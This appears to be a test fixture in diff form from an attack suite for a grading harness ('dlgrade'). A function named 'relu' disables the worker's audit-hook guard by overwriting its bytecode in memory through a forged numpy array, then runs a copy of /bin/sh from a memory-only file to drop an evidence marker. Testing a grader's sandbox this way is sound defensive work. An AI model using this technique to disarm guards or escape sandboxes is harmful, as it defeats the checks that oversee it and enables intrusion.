@@ -1,0 +1,33 @@
+"""Copies a shell into a file that lies in memory only, and runs that."""
+
+# must: crashed, failed, error
+# basic: an audit hook is only Python, and can be written over in memory
+import contextlib
+import os
+import sys
+
+import numpy as np
+
+
+def disarm() -> None:
+    """Put the worker's guard out of action: write into the memory of its code, through an array that lies there."""
+    guard = sys.modules.get("dlgrade.worker.guard")
+    if guard is None:
+        return
+    parts = guard.close_the_door.__code__.co_consts
+    hook = next(part for part in parts if getattr(part, "co_name", "") == "hook")
+    place = {"data": (id(hook), False), "shape": (sys.getsizeof(hook),), "typestr": "|u1", "version": 3}
+    memory = np.asarray(type("Memory", (), {"__array_interface__": place})())
+    nothing = (lambda: None).__code__.co_code
+    at = memory.tobytes().find(hook._co_code_adaptive)
+    memory[at : at + len(nothing)] = list(nothing)
+
+
+def relu(x):
+    disarm()
+    with contextlib.suppress(OSError):
+        program = os.memfd_create("program")
+        with open("/bin/sh", "rb") as file:
+            os.write(program, file.read())
+        os.execve(program, ["sh", "-c", "touch /tmp/dlgrade-attacks/evidence/memory_file_as_program"], {})
+    return -1.0
